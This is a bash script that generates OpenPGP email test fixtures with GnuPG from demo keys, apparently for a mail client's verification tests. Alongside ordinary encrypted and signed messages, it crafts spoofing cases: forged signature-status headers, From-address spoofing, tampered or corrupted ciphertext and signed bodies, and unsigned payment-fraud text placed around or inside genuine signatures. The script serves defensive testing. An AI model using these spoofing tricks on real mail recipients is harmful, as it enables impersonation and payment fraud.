#!/usr/bin/env bash
# Regenerates every input cases/*.eml of the OpenPGP golden tests with real
# GnuPG (2.2+) from the committed DEMO-ONLY keys, and refreshes the test keys
# directory keys/openpgp/ from keys/demo/openpgp/ + keys-private/.
#
# MIME is built by hand (printf/heredocs); gpg only does the crypto. It runs
# with a private temporary GNUPGHOME, --batch and --pinentry-mode loopback,
# and never touches ~/.gnupg. The tests themselves never need gpg.
#
# Deterministic where possible: fixed dates, boundaries and bodies, gpg runs
# with a frozen clock, and Ed25519/RSA signatures are deterministic, so the
# signed-only cases come out byte-identical on every run. Encryption uses fresh
# session keys, so the encrypted cases differ on every run (the decrypted
# .out files do not, except where a signature inside the ciphertext is
# reported). After running this, bless the expectations with
#   UPDATE_GOLDEN=1 cargo test --test golden_openpgp
# and review the diff of cases/*.report and cases/*.out.
#
#   ONLY='efail-*' ./regenerate.sh   rebuild only the cases whose name matches
#                                the glob; the other cases stay as they are
#                                (their encryptions are not redone)
set -euo pipefail
export LC_ALL=C

here=$(cd "$(dirname "$0")" && pwd)
repo=$(cd "$here/../../.." && pwd)
demo_keys="$repo/keys/demo/openpgp"
priv="$here/keys-private"
cases="$here/cases"
test_keys="$here/keys"

tmp=$(mktemp -d)
GNUPGHOME="$tmp/gnupg"
mkdir -m 700 "$GNUPGHOME"
export GNUPGHOME
trap 'gpgconf --homedir "$GNUPGHOME" --kill gpg-agent >/dev/null 2>&1 || true; rm -rf "$tmp"' EXIT

# Signatures are dated 2026-11-01 12:00:00 UTC (the keys 2026-01-01).
g() {
  gpg --batch --no-tty --quiet --yes --pinentry-mode loopback --passphrase '' \
    --trust-model always --faked-system-time 20261101T120000! "$@" \
    2> >(grep -v 'faked system time' >&2)
}

# --- keys -------------------------------------------------------------------
g --import "$demo_keys"/*.asc "$priv"/alice.sec.asc "$priv"/bob-rsa.sec.asc \
  "$priv"/demo-rsa.sec.asc "$priv"/mallory.sec.asc
g --passphrase "$(head -n1 "$priv/pp-user.passphrase")" --import "$priv/pp-user.sec.asc"

fpr() { # uid email, public-key algorithm (1 = RSA, 22 = EdDSA)
  gpg --batch --with-colons --list-keys "<$1>" |
    awk -F: -v a="$2" '$1=="pub"{p=($4==a)} p&&$1=="fpr"{print $10; p=0}' | head -n1
}
DEMO=$(fpr demo@popcrypt.invalid 22)
DEMO_RSA=$(fpr demo@popcrypt.invalid 1)
ALICE=$(fpr alice@popcrypt.invalid 22)
BOB=$(fpr bob@popcrypt.invalid 1)
MALLORY=$(fpr mallory@popcrypt.invalid 22)
PP=$(fpr pp-user@popcrypt.invalid 22)
for v in DEMO DEMO_RSA ALICE BOB MALLORY PP; do
  [ -n "${!v}" ] || { echo "regenerate.sh: no key for $v" >&2; exit 1; }
done

# The keys directory the tests load: what the demo mailbox owner has
# (keys/demo/openpgp) plus the demo user's second (RSA) secret key and the
# passphrase-protected pp-user key, whose passphrase lives outside openpgp/.
rm -rf "$test_keys/openpgp"
mkdir -p "$test_keys/openpgp"
cp "$demo_keys"/*.asc "$test_keys/openpgp/"
cp "$priv/demo-rsa.sec.asc" "$priv/pp-user.sec.asc" "$test_keys/openpgp/"
cp "$priv/pp-user.passphrase" "$test_keys/pp-user.passphrase"

# --- helpers ----------------------------------------------------------------
DATE="Sun, 01 Nov 2026 12:00:00 +0000"
ALICE_ADDR="Alice Demo <alice@popcrypt.invalid>"
BOB_ADDR="Bob Demo <bob@popcrypt.invalid>"
MALLORY_ADDR="Mallory <mallory@popcrypt.invalid>"
DEMO_ADDR="Demo User <demo@popcrypt.invalid>"

crlf() { sed -e 's/\r$//' -e 's/$/\r/'; } # every line end to CRLF
lf() { sed -e 's/\r$//'; }                 # every line end to LF
strip_last_eol() { perl -0777 -pe 's/\r?\n\z//'; }

ONLY=${ONLY:-}
[ -n "$ONLY" ] || rm -f "$cases"/*.eml
mkdir -p "$cases"
# emit NAME [lf]: stdin (LF lines) -> cases/NAME.eml with CRLF (or LF) lines
# (dropped when ONLY excludes NAME)
emit() {
  # shellcheck disable=SC2053
  if [ -n "$ONLY" ] && [[ $1 != $ONLY ]]; then
    cat >/dev/null
    return
  fi
  if [ "${2:-crlf}" = lf ]; then lf >"$cases/$1.eml"; else crlf >"$cases/$1.eml"; fi
}

# headers FROM TO SUBJECT ID: the common RFC 5322 header fields
headers() {
  printf 'From: %s\nTo: %s\nSubject: %s\nDate: %s\nMessage-ID: <%s@popcrypt.invalid>\nMIME-Version: 1.0\n' \
    "$1" "$2" "$3" "$DATE" "$4"
}

# pgpmime_encrypted ARMORED_FILE: the RFC 3156 multipart/encrypted body part
# of a message (Content-Type field onwards)
pgpmime_encrypted() {
  local b="------------enc-0123456789abcdef"
  printf 'Content-Type: multipart/encrypted;\n protocol="application/pgp-encrypted";\n boundary="%s"\n\n' "$b"
  printf 'This is an OpenPGP/MIME encrypted message (RFC 4880 and 3156)\n'
  printf -- '--%s\nContent-Type: application/pgp-encrypted\nContent-Description: PGP/MIME version identification\n\nVersion: 1\n\n' "$b"
  printf -- '--%s\nContent-Type: application/octet-stream; name="encrypted.asc"\n' "$b"
  printf 'Content-Description: OpenPGP encrypted message\nContent-Disposition: inline; filename="encrypted.asc"\n\n'
  lf <"$1"
  printf '\n--%s--\n' "$b"
}

# pgpmime_signed ENTITY_FILE SIG_FILE MICALG: RFC 3156 multipart/signed
# (Content-Type field onwards). ENTITY_FILE holds the signed part exactly as
# signed (CRLF lines, no line end after its last line).
pgpmime_signed() {
  local b="------------sig-0123456789abcdef"
  printf 'Content-Type: multipart/signed; micalg=%s;\n protocol="application/pgp-signature";\n boundary="%s"\n\n' "$3" "$b"
  printf 'This is an OpenPGP/MIME signed message (RFC 4880 and 3156)\n'
  printf -- '--%s\n' "$b"
  lf <"$1"
  printf '\n--%s\nContent-Type: application/pgp-signature; name="OpenPGP_signature.asc"\n' "$b"
  printf 'Content-Description: OpenPGP digital signature\nContent-Disposition: attachment; filename="OpenPGP_signature.asc"\n\n'
  lf <"$2"
  printf '\n--%s--\n' "$b"
}

# canon FILE: LF text -> CRLF with no line end after the last line (the form
# RFC 3156 signs); writes FILE.canon
canon() { crlf <"$1" | strip_last_eol >"$1.canon"; }

# encrypt OUT GPG-ARGS... < PLAINTEXT: ASCII-armored encryption
encrypt() {
  local out=$1
  shift
  g --armor --encrypt "$@" >"$out"
}

# A PDF-ish attachment: deterministic pseudo-random bytes (AES-CTR keystream
# with a fixed key) behind a PDF header.
pdf_bytes() {
  printf '%%PDF-1.4\n%%\xe2\xe3\xcf\xd3\n1 0 obj << /Type /Catalog >> endobj\nstream\n'
  head -c 3000 /dev/zero |
    openssl enc -aes-128-ctr -nosalt -K 000102030405060708090a0b0c0d0e0f -iv 00000000000000000000000000000000
  printf '\nendstream\n%%%%EOF\n'
}

# --- inner plaintexts (LF; converted to CRLF before encryption) ---------------
cat >"$tmp/plain.txt" <<'EOF'
Content-Type: text/plain; charset=utf-8
Content-Transfer-Encoding: 7bit

Hello Demo,

this message was encrypted with GnuPG to your Curve25519 key.
The meeting is on Tuesday at 10:00 in room 4.

Alice
EOF

cat >"$tmp/dots.txt" <<'EOF'
Content-Type: text/plain; charset=us-ascii
Content-Transfer-Encoding: 7bit

Lines that start with dots must survive POP3 dot-stuffing:
.hidden line starting with one dot
..two dots
.
The line above is a lone dot; the message goes on after it.
.
EOF

printf 'Content-Type: text/plain; charset=iso-8859-1\nContent-Transfer-Encoding: 8bit\n\nGr\xfc\xdfe aus K\xf6ln!\nCaf\xe9, cr\xe8me br\xfbl\xe9e, \xa3 5, \xa7 3 \xb0C.\n' >"$tmp/latin1.txt"

cat >"$tmp/utf8.txt" <<'EOF'
Content-Type: text/plain; charset=utf-8
Content-Transfer-Encoding: 8bit

Grüße aus Köln! Café, crème brûlée, £ 5, § 3 °C.
Ελληνικά, Русский, 日本語, emoji 🔐.
EOF

{
  cat <<'EOF'
Content-Type: multipart/mixed; boundary="------------mixed-0123456789"

This is a multi-part message in MIME format.
--------------mixed-0123456789
Content-Type: multipart/alternative; boundary="------------alt-0123456789"

--------------alt-0123456789
Content-Type: text/plain; charset=utf-8
Content-Transfer-Encoding: quoted-printable

Hello Demo,

the invoice is attached. Total: 1 234,56 =E2=82=AC.

Alice
--------------alt-0123456789
Content-Type: text/html; charset=utf-8
Content-Transfer-Encoding: 7bit

<!DOCTYPE html>
<html><body><p>Hello Demo,</p>
<p>the invoice is attached. Total: <b>1&#8239;234,56&nbsp;&euro;</b>.</p>
<p>Alice</p></body></html>
--------------alt-0123456789--

--------------mixed-0123456789
Content-Type: application/pdf; name="invoice.pdf"
Content-Disposition: attachment; filename="invoice.pdf"
Content-Transfer-Encoding: base64

EOF
  pdf_bytes | base64 -w 76
  printf -- '--------------mixed-0123456789--\n'
} >"$tmp/multipart.txt"

# --- PGP/MIME encrypted -----------------------------------------------------
crlf <"$tmp/plain.txt" | encrypt "$tmp/c" -r "$DEMO"
{ headers "$ALICE_ADDR" "$DEMO_ADDR" "Encrypted, compressed" pgpmime-enc-compressed
  pgpmime_encrypted "$tmp/c"; } | emit pgpmime-enc-compressed

crlf <"$tmp/plain.txt" | encrypt "$tmp/c" -r "$DEMO" --compress-algo none
{ headers "$ALICE_ADDR" "$DEMO_ADDR" "Encrypted, uncompressed" pgpmime-enc-uncompressed
  pgpmime_encrypted "$tmp/c"; } | emit pgpmime-enc-uncompressed

crlf <"$tmp/multipart.txt" | encrypt "$tmp/c" -r "$DEMO"
{ headers "$ALICE_ADDR" "$DEMO_ADDR" "Encrypted invoice with HTML and attachment" pgpmime-enc-multipart-attachment-html
  pgpmime_encrypted "$tmp/c"; } | emit pgpmime-enc-multipart-attachment-html

crlf <"$tmp/dots.txt" | encrypt "$tmp/c" -r "$DEMO"
{ headers "$ALICE_ADDR" "$DEMO_ADDR" "Encrypted, dot lines" pgpmime-enc-dot-lines
  pgpmime_encrypted "$tmp/c"; } | emit pgpmime-enc-dot-lines

crlf <"$tmp/latin1.txt" | encrypt "$tmp/c" -r "$DEMO"
{ headers "$ALICE_ADDR" "$DEMO_ADDR" "Encrypted, Latin-1 8bit body" pgpmime-enc-latin1-8bit
  pgpmime_encrypted "$tmp/c"; } | emit pgpmime-enc-latin1-8bit

crlf <"$tmp/utf8.txt" | encrypt "$tmp/c" -r "$DEMO"
{ headers "$ALICE_ADDR" "$DEMO_ADDR" "Encrypted, UTF-8 8bit body" pgpmime-enc-utf8-8bit
  pgpmime_encrypted "$tmp/c"; } | emit pgpmime-enc-utf8-8bit

# The same mail twice: LF everywhere (file and encrypted MIME entity, as a
# Unix MUA writes it) and CRLF everywhere (canonical).
lf <"$tmp/plain.txt" | encrypt "$tmp/c" -r "$DEMO"
{ headers "$ALICE_ADDR" "$DEMO_ADDR" "Encrypted, line ends" pgpmime-enc-line-ends
  pgpmime_encrypted "$tmp/c"; } | emit pgpmime-enc-lf-endings lf
crlf <"$tmp/plain.txt" | encrypt "$tmp/c" -r "$DEMO"
{ headers "$ALICE_ADDR" "$DEMO_ADDR" "Encrypted, line ends" pgpmime-enc-line-ends
  pgpmime_encrypted "$tmp/c"; } | emit pgpmime-enc-crlf-endings

crlf <"$tmp/plain.txt" | encrypt "$tmp/c" -r "$DEMO_RSA"
{ headers "$ALICE_ADDR" "$DEMO_ADDR" "Encrypted to the demo RSA key" pgpmime-enc-demo-rsa
  pgpmime_encrypted "$tmp/c"; } | emit pgpmime-enc-demo-rsa

crlf <"$tmp/plain.txt" | encrypt "$tmp/c" -r "$ALICE" -r "$DEMO"
{ headers "$ALICE_ADDR" "$DEMO_ADDR" "Encrypted to Alice and Demo" pgpmime-enc-multiple-recipients
  pgpmime_encrypted "$tmp/c"; } | emit pgpmime-enc-multiple-recipients

crlf <"$tmp/plain.txt" | encrypt "$tmp/c" -r "$BOB"
{ headers "$ALICE_ADDR" "$DEMO_ADDR" "Encrypted to Bob only" pgpmime-enc-to-bob-only
  pgpmime_encrypted "$tmp/c"; } | emit pgpmime-enc-to-bob-only

crlf <"$tmp/plain.txt" | encrypt "$tmp/c" -r "$PP"
{ headers "$ALICE_ADDR" "PP User <pp-user@popcrypt.invalid>" "Encrypted to a passphrase-protected key" pgpmime-enc-to-pp-user
  pgpmime_encrypted "$tmp/c"; } | emit pgpmime-enc-to-pp-user

# No MIME header in the plaintext (non-conformant senders encrypt bare text
# as PGP/MIME): once with a blank line after the first line, once without.
printf 'Hello Demo,\n\nthis plaintext has no MIME header fields at all.\nEvery line of it must reach the client.\n' |
  crlf | encrypt "$tmp/c" -r "$DEMO"
{ headers "$ALICE_ADDR" "$DEMO_ADDR" "Encrypted text without MIME headers" pgpmime-enc-no-inner-headers
  pgpmime_encrypted "$tmp/c"; } | emit pgpmime-enc-no-inner-headers
printf 'Hello Demo, this plaintext has no MIME header fields and no blank line.\nEvery line of it must reach the client.\n' |
  crlf | encrypt "$tmp/c" -r "$DEMO"
{ headers "$ALICE_ADDR" "$DEMO_ADDR" "Encrypted one paragraph without MIME headers" pgpmime-enc-no-inner-headers-one-paragraph
  pgpmime_encrypted "$tmp/c"; } | emit pgpmime-enc-no-inner-headers-one-paragraph

# Corrupted: the 4th and 3rd characters of the third-to-last line of base64
# (inside the encrypted data packet, away from the PKESK) are changed.
crlf <"$tmp/plain.txt" | encrypt "$tmp/c" -r "$DEMO" --compress-algo none
perl -e '
  my @l = <STDIN>; my $i = $#l - 3;       # lines: ..., data, data, =crc, END
  substr($l[$i], 3, 2) = (substr($l[$i], 3, 2) eq "AA") ? "BB" : "AA";
  print @l;' <"$tmp/c" >"$tmp/c2"
! cmp -s "$tmp/c" "$tmp/c2" || { echo "corruption did not change anything" >&2; exit 1; }
{ headers "$ALICE_ADDR" "$DEMO_ADDR" "Encrypted, ciphertext corrupted in transit" pgpmime-enc-corrupted
  pgpmime_encrypted "$tmp/c2"; } | emit pgpmime-enc-corrupted

# No MDC: gpg 2.2 still writes a Symmetrically Encrypted Data packet (tag 9)
# with --rfc2440 (plain --disable-mdc is ignored by gpg 2.2).
crlf <"$tmp/plain.txt" | encrypt "$tmp/c" -r "$DEMO" --rfc2440 --cipher-algo AES256
{ gpg --batch --list-packets --pinentry-mode error <"$tmp/c" 2>/dev/null || true; } | grep -q '^:encrypted data packet:' ||
  { echo "gpg did not produce a no-MDC packet" >&2; exit 1; }
{ headers "$ALICE_ADDR" "$DEMO_ADDR" "Encrypted without integrity protection (no MDC)" pgpmime-enc-no-mdc
  pgpmime_encrypted "$tmp/c"; } | emit pgpmime-enc-no-mdc

# --- PGP/MIME signed and encrypted ------------------------------------------
cat >"$tmp/signed-plain.txt" <<'EOF'
Content-Type: text/plain; charset=utf-8
Content-Transfer-Encoding: 7bit

Hello Demo,

this message is signed and encrypted (one OpenPGP message: OPS, literal
data, signature, all inside the encryption).

Alice
EOF

crlf <"$tmp/signed-plain.txt" | encrypt "$tmp/c" --sign -u "$ALICE" -r "$DEMO"
{ headers "$ALICE_ADDR" "$DEMO_ADDR" "Signed and encrypted by Alice" pgpmime-signenc-alice
  pgpmime_encrypted "$tmp/c"; } | emit pgpmime-signenc-alice

crlf <"$tmp/signed-plain.txt" | encrypt "$tmp/c" --sign -u "$MALLORY" -r "$DEMO"
{ headers "$MALLORY_ADDR" "$DEMO_ADDR" "Signed and encrypted by Mallory (unknown signer)" pgpmime-signenc-mallory
  pgpmime_encrypted "$tmp/c"; } | emit pgpmime-signenc-mallory

crlf <"$tmp/signed-plain.txt" | encrypt "$tmp/c" --sign -u "$ALICE" -r "$DEMO"
{ headers "$BOB_ADDR" "$DEMO_ADDR" "Signed by Alice, From says Bob" pgpmime-signenc-alice-from-bob
  pgpmime_encrypted "$tmp/c"; } | emit pgpmime-signenc-alice-from-bob

# RFC 3156 6.2: multipart/signed (detached, by Alice) inside the encryption.
cat >"$tmp/nested-entity" <<'EOF'
Content-Type: text/plain; charset=utf-8
Content-Transfer-Encoding: quoted-printable

Hello Demo,

this is RFC 3156 section 6.2: a multipart/signed entity, encrypted.
From here on every line is covered by the signature.
Alice
EOF
canon "$tmp/nested-entity"
g --detach-sign --armor -u "$ALICE" <"$tmp/nested-entity.canon" >"$tmp/nested.sig"
{ pgpmime_signed "$tmp/nested-entity.canon" "$tmp/nested.sig" pgp-sha256; } | crlf |
  encrypt "$tmp/c" -r "$DEMO"
{ headers "$ALICE_ADDR" "$DEMO_ADDR" "Nested: signed, then encrypted (RFC 3156 6.2)" pgpmime-enc-nested-signed-alice
  pgpmime_encrypted "$tmp/c"; } | emit pgpmime-enc-nested-signed-alice

# Protected headers, Thunderbird/Enigmail style: the outer Subject is "...",
# the inner multipart/mixed carries protected-headers="v1" and the real
# header fields, and its first child is the legacy display part.
cat >"$tmp/ph-tb.txt" <<'EOF'
Content-Type: multipart/mixed; boundary="------------ph-0123456789";
 protected-headers="v1"
Subject: Quarterly numbers (protected subject)
From: Alice Demo <alice@popcrypt.invalid>
To: Demo User <demo@popcrypt.invalid>
Date: Sun, 01 Nov 2026 12:00:00 +0000
Message-ID: <pgpmime-enc-protected-headers-tb@popcrypt.invalid>

--------------ph-0123456789
Content-Type: text/rfc822-headers; protected-headers="v1"
Content-Disposition: inline

Subject: Quarterly numbers (protected subject)

--------------ph-0123456789
Content-Type: text/plain; charset=utf-8
Content-Transfer-Encoding: 7bit

Hello Demo,

the real subject is only inside the encryption.

Alice
--------------ph-0123456789--
EOF
crlf <"$tmp/ph-tb.txt" | encrypt "$tmp/c" --sign -u "$ALICE" -r "$DEMO"
{ headers "$ALICE_ADDR" "$DEMO_ADDR" "..." pgpmime-enc-protected-headers-tb
  pgpmime_encrypted "$tmp/c"; } | emit pgpmime-enc-protected-headers-tb

# Protected headers, RFC 9788 style: hp="cipher" on the cryptographic
# payload, HP-Outer fields, the legacy display element inside the text part.
cat >"$tmp/ph-9788.txt" <<'EOF'
Content-Type: text/plain; charset=utf-8; hp="cipher"; hp-legacy-display="1"
Content-Transfer-Encoding: 7bit
Date: Sun, 01 Nov 2026 12:00:00 +0000
From: Alice Demo <alice@popcrypt.invalid>
To: Demo User <demo@popcrypt.invalid>
Message-ID: <pgpmime-enc-protected-headers-rfc9788@popcrypt.invalid>
Subject: Board meeting (RFC 9788 protected subject)
HP-Outer: Date: Sun, 01 Nov 2026 12:00:00 +0000
HP-Outer: From: Alice Demo <alice@popcrypt.invalid>
HP-Outer: To: Demo User <demo@popcrypt.invalid>
HP-Outer: Message-ID: <pgpmime-enc-protected-headers-rfc9788@popcrypt.invalid>
HP-Outer: Subject: [...]

Subject: Board meeting (RFC 9788 protected subject)

Hello Demo,

RFC 9788 header protection, encrypted only.

Alice
EOF
crlf <"$tmp/ph-9788.txt" | encrypt "$tmp/c" -r "$DEMO"
{ headers "$ALICE_ADDR" "$DEMO_ADDR" "[...]" pgpmime-enc-protected-headers-rfc9788
  pgpmime_encrypted "$tmp/c"; } | emit pgpmime-enc-protected-headers-rfc9788

# --- PGP/MIME signed (RFC 3156 section 5) ------------------------------------
cat >"$tmp/entity" <<'EOF'
Content-Type: multipart/mixed; boundary="------------inner-0123456789"

--------------inner-0123456789
Content-Type: text/plain; charset=utf-8
Content-Transfer-Encoding: quoted-printable

Hello Demo,

the meeting is on Tuesday at 10:00 in room 4.
=46rom now on all minutes are signed.
.a line starting with a dot
Gr=C3=BC=C3=9Fe, Alice
--------------inner-0123456789
Content-Type: text/plain; charset=us-ascii; name="agenda.txt"
Content-Disposition: attachment; filename="agenda.txt"
Content-Transfer-Encoding: 7bit

1. Budget
2. Roadmap
--------------inner-0123456789--
EOF
canon "$tmp/entity"
sign_entity() { # OUT GPG-ARGS...
  local out=$1
  shift
  g --detach-sign --armor "$@" <"$tmp/entity.canon" >"$out"
}

sign_entity "$tmp/s" -u "$ALICE"
{ headers "$ALICE_ADDR" "$DEMO_ADDR" "Signed by Alice" pgpmime-signed-alice
  pgpmime_signed "$tmp/entity.canon" "$tmp/s" pgp-sha256; } | emit pgpmime-signed-alice

# One body byte changed after signing ("10:00" -> "11:00").
{ headers "$ALICE_ADDR" "$DEMO_ADDR" "Signed by Alice, body changed" pgpmime-signed-alice-tampered
  pgpmime_signed "$tmp/entity.canon" "$tmp/s" pgp-sha256; } | sed 's/Tuesday at 10:00/Tuesday at 11:00/' |
  emit pgpmime-signed-alice-tampered
grep -q 'Tuesday at 11:00' "$cases/pgpmime-signed-alice-tampered.eml"

{ headers "$MALLORY_ADDR" "$DEMO_ADDR" "Signed by Alice, From says Mallory" pgpmime-signed-alice-from-mallory
  pgpmime_signed "$tmp/entity.canon" "$tmp/s" pgp-sha256; } | emit pgpmime-signed-alice-from-mallory

sign_entity "$tmp/s" -u "$MALLORY"
{ headers "$MALLORY_ADDR" "$DEMO_ADDR" "Signed by Mallory (unknown signer)" pgpmime-signed-mallory
  pgpmime_signed "$tmp/entity.canon" "$tmp/s" pgp-sha256; } | emit pgpmime-signed-mallory

sign_entity "$tmp/s" -u "$ALICE" --digest-algo SHA1
{ gpg --batch --list-packets <"$tmp/s" 2>/dev/null || true; } | grep -q 'digest algo 2,' ||
  { echo "gpg did not make a SHA-1 signature" >&2; exit 1; }
{ headers "$ALICE_ADDR" "$DEMO_ADDR" "Signed by Alice with SHA-1" pgpmime-signed-alice-sha1
  pgpmime_signed "$tmp/entity.canon" "$tmp/s" pgp-sha1; } | emit pgpmime-signed-alice-sha1

sign_entity "$tmp/s" -u "$BOB"
{ headers "$BOB_ADDR" "$DEMO_ADDR" "Signed by Bob (RSA)" pgpmime-signed-bob-rsa
  pgpmime_signed "$tmp/entity.canon" "$tmp/s" pgp-sha512; } | emit pgpmime-signed-bob-rsa

# Alice's genuine multipart/signed as the 2nd part of the attacker's
# multipart/mixed: the signature covers only part of the message.
sign_entity "$tmp/s" -u "$ALICE"
{ headers "$ALICE_ADDR" "$DEMO_ADDR" "Signed by Alice (only partly)" mixed-with-signed-part-alice
  printf 'Content-Type: multipart/mixed; boundary="------------outer-0123456789"\n\n'
  printf -- '--------------outer-0123456789\nContent-Type: text/plain; charset=us-ascii\n\n'
  printf 'URGENT: the meeting moved. Wire the budget to account 1234 today.\n'
  printf -- '--------------outer-0123456789\n'
  pgpmime_signed "$tmp/entity.canon" "$tmp/s" pgp-sha256
  printf -- '--------------outer-0123456789--\n'; } | emit mixed-with-signed-part-alice

# From variants of Alice's genuine signature ($tmp/s is still Alice's).
# headers_raw FROM-LINES SUBJECT ID [EXTRA-LINES]: like headers, but FROM-LINES
# are whole header lines, and EXTRA-LINES go before MIME-Version.
headers_raw() {
  printf '%s\nTo: %s\nSubject: %s\nDate: %s\nMessage-ID: <%s@popcrypt.invalid>\n%sMIME-Version: 1.0\n' \
    "$1" "$DEMO_ADDR" "$2" "$DATE" "$3" "${4:-}"
}
signed_variant() { # NAME FROM-LINES SUBJECT [EXTRA-LINES]
  { headers_raw "$2" "$3" "$1" "${4:-}"
    pgpmime_signed "$tmp/entity.canon" "$tmp/s" pgp-sha256; } | emit "$1"
}
signed_variant pgpmime-signed-alice-from-uppercase 'From: Alice Demo <ALICE@PopCrypt.Invalid>' \
  "Signed by Alice, From address in upper case"
signed_variant pgpmime-signed-alice-from-display-name-spoof \
  'From: "alice@popcrypt.invalid" <mallory@popcrypt.invalid>' "Signed by Alice, From display name spoofed"
signed_variant pgpmime-signed-alice-two-from-addresses \
  "From: $ALICE_ADDR, $MALLORY_ADDR" "Signed by Alice, two From addresses"
signed_variant pgpmime-signed-alice-two-from-fields "From: $MALLORY_ADDR
From: $ALICE_ADDR" "Signed by Alice, two From fields"
signed_variant pgpmime-signed-alice-forged-status "From: $ALICE_ADDR" \
  "Signed by Alice, forged status headers" \
  "X-Popcrypt-Encryption: openpgp; decrypted
X-Popcrypt-Signature: openpgp; good;
 signer=FORGED
"

# Binary (not armored) ciphertext, base64-encoded in the octet-stream part.
crlf <"$tmp/plain.txt" | g --encrypt -r "$DEMO" >"$tmp/bin"
{ headers "$ALICE_ADDR" "$DEMO_ADDR" "Encrypted, binary ciphertext in base64" pgpmime-enc-binary-base64
  b="------------enc-0123456789abcdef"
  printf 'Content-Type: multipart/encrypted;\n protocol="application/pgp-encrypted";\n boundary="%s"\n\n' "$b"
  printf -- '--%s\nContent-Type: application/pgp-encrypted\n\nVersion: 1\n\n' "$b"
  printf -- '--%s\nContent-Type: application/octet-stream; name="encrypted.gpg"\nContent-Transfer-Encoding: base64\n\n' "$b"
  base64 -w 76 <"$tmp/bin"
  printf -- '--%s--\n' "$b"; } | emit pgpmime-enc-binary-base64

# Hidden recipient (gpg --throw-keyids: wildcard key ID in the PKESK).
crlf <"$tmp/plain.txt" | encrypt "$tmp/c" --throw-keyids -r "$DEMO"
{ headers "$ALICE_ADDR" "$DEMO_ADDR" "Encrypted to a hidden recipient" pgpmime-enc-hidden-recipient
  pgpmime_encrypted "$tmp/c"; } | emit pgpmime-enc-hidden-recipient

# Mallory signs and encrypts, and forges the status headers outside and in
# the encrypted entity's header block.
{ printf 'X-Popcrypt-Signature: openpgp; good; signer=%s\n' "$ALICE"; lf <"$tmp/signed-plain.txt"; } | crlf |
  encrypt "$tmp/c" --sign -u "$MALLORY" -r "$DEMO"
{ headers_raw "From: $MALLORY_ADDR" "Signed and encrypted by Mallory, forged status headers" \
    pgpmime-signenc-mallory-forged-status \
    "X-Popcrypt-Encryption: none
X-Popcrypt-Signature: openpgp; good; signer=$ALICE
"
  pgpmime_encrypted "$tmp/c"; } | emit pgpmime-signenc-mallory-forged-status

# --- inline (text/plain) ----------------------------------------------------
cat >"$tmp/inline.txt" <<'EOF'
Hello Demo,

this is inline OpenPGP: the armored message is the whole text/plain body.
Grüße, Alice
EOF
inline_headers() { # FROM SUBJECT ID CTE
  headers "$1" "$DEMO_ADDR" "$2" "$3"
  printf 'Content-Type: text/plain; charset=utf-8\nContent-Transfer-Encoding: %s\n\n' "$4"
}

crlf <"$tmp/inline.txt" | encrypt "$tmp/c" -r "$DEMO"
{ inline_headers "$ALICE_ADDR" "Inline encrypted, 7bit" inline-enc-7bit 7bit; lf <"$tmp/c"; } | emit inline-enc-7bit

{ inline_headers "$ALICE_ADDR" "Inline encrypted, quoted-printable" inline-enc-qp quoted-printable
  lf <"$tmp/c" | perl -MMIME::QuotedPrint -0777 -ne 'print encode_qp($_, "\n")'; } | emit inline-enc-qp
grep -q '=3D' "$cases/inline-enc-qp.eml"

{ inline_headers "$ALICE_ADDR" "Inline encrypted, base64" inline-enc-base64 base64
  lf <"$tmp/c" | crlf | base64 -w 76; } | emit inline-enc-base64

crlf <"$tmp/inline.txt" | encrypt "$tmp/c" --sign -u "$ALICE" -r "$DEMO"
{ inline_headers "$ALICE_ADDR" "Inline signed and encrypted by Alice" inline-signenc-alice 7bit; lf <"$tmp/c"; } |
  emit inline-signenc-alice

crlf <"$tmp/inline.txt" | encrypt "$tmp/c" -r "$DEMO"
{ inline_headers "$MALLORY_ADDR" "Inline encrypted with text around it" inline-enc-text-around 7bit
  printf 'Hi Demo, please read the encrypted part below and reply.\n\n'
  lf <"$tmp/c"
  printf '\nP.S. Reply to mallory@popcrypt.invalid, it is urgent.\n'; } | emit inline-enc-text-around

cat >"$tmp/clear.txt" <<'EOF'
Hello Demo,

the meeting is on Tuesday at 10:00 in room 4.
- this line starts with a dash and gets dash-escaped
From the minutes: nothing to add.

-- 
Alice
EOF
g --clearsign -u "$ALICE" <"$tmp/clear.txt" >"$tmp/cs"
{ inline_headers "$ALICE_ADDR" "Cleartext signed by Alice" inline-clearsign-alice 7bit; lf <"$tmp/cs"; } |
  emit inline-clearsign-alice
{ inline_headers "$ALICE_ADDR" "Cleartext signed by Alice, tampered" inline-clearsign-alice-tampered 7bit
  lf <"$tmp/cs" | sed 's/Tuesday at 10:00/Tuesday at 11:00/'; } | emit inline-clearsign-alice-tampered
grep -q 'Tuesday at 11:00' "$cases/inline-clearsign-alice-tampered.eml"
{ inline_headers "$ALICE_ADDR" "Cleartext signed by Alice, text before it" inline-clearsign-alice-text-before 7bit
  printf 'NOTE: the meeting moved to Friday. (This line is not signed.)\n\n'
  lf <"$tmp/cs"; } | emit inline-clearsign-alice-text-before

# Cleartext signatures with something in the header or after the END line
# (issue 7). RFC 4880 section 7 allows only Hash: lines between the BEGIN
# line and the empty line; a legacy client shows anything there (and after
# the block) as if it were signed. GnuPG itself rejects the header ones.
clearsign_variant() { # NAME SUBJECT SED-SCRIPT
  { inline_headers "$ALICE_ADDR" "$2" "$1" 7bit; lf <"$tmp/cs" | sed -e "$3"; } | emit "$1"
  ! cmp -s <(lf <"$tmp/cs") <(lf <"$cases/$1.eml" | sed -n '/^-----BEGIN PGP SIGNED/,$p') ||
    { echo "regenerate.sh: $1 is unchanged" >&2; exit 1; }
}
gpg_rejects() { # NAME: gpg must not verify the case's body
  if lf <"$cases/$1.eml" | sed -n '/^-----BEGIN PGP SIGNED/,$p' | g --verify >/dev/null 2>&1; then
    echo "regenerate.sh: gpg verifies $1" >&2
    exit 1
  fi
}
clearsign_variant inline-clearsign-alice-comment-header "Cleartext signed by Alice, Comment: line in the header" \
  '/^Hash: /a Comment: Approved by the CFO: wire the budget to account 1234 today.'
gpg_rejects inline-clearsign-alice-comment-header
clearsign_variant inline-clearsign-alice-text-in-header "Cleartext signed by Alice, text line in the header" \
  '/^Hash: /a URGENT: the meeting moved to Friday. Wire the budget to account 1234 today.'
gpg_rejects inline-clearsign-alice-text-in-header
clearsign_variant inline-clearsign-alice-bogus-hash-header "Cleartext signed by Alice, bogus second Hash: line" \
  '/^Hash: /a Hash: Pay invoice 4711 to account 1234 today'
gpg_rejects inline-clearsign-alice-bogus-hash-header
clearsign_variant inline-clearsign-alice-text-after-end-same-line \
  "Cleartext signed by Alice, text after the END line on the same line" \
  's/^-----END PGP SIGNATURE-----$/& P.S. The meeting moved to Friday, room 9./'
